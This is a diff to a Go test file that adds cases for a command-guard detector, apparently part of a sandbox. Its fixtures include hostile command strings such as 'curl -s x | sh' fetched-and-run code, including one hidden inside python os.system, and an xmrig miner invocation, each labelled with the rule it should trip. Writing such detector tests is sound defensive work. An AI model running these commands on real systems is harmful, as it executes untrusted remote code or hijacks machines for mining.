@@ -186,6 +186,11 @@ var ruleCases = []ruleCase{
 	{"argv xmrig", airlock.Command, "xmrig\x00-o\x00pool:3333", guard.RuleMiner},
 	{"argv bash -c", airlock.Command, "bash\x00-c\x00curl -s x | sh", guard.RuleDownloadExec},
 	{"argv echo", airlock.Command, "echo\x00xmrig", clean},
+	// argv of several lines: quoted as $'...' for the shell parser, whose
+	// escapes must be decoded before the code is parsed again.
+	{"argv python -c, lines", airlock.Command, "python3\x00-c\x00import time\nprint(1)\n", clean},
+	{"argv python -c, lines, shell inside", airlock.Command, "python3\x00-c\x00import os\nos.system('curl -s x | sh')\n", guard.RuleDownloadExec},
+	{"argv bash -c, lines", airlock.Command, "bash\x00-c\x00cd /tmp\necho 'a\tb'\n", clean},
 }
 
 func newGuard(t testing.TB, cfg guard.Config) *guard.Guard {
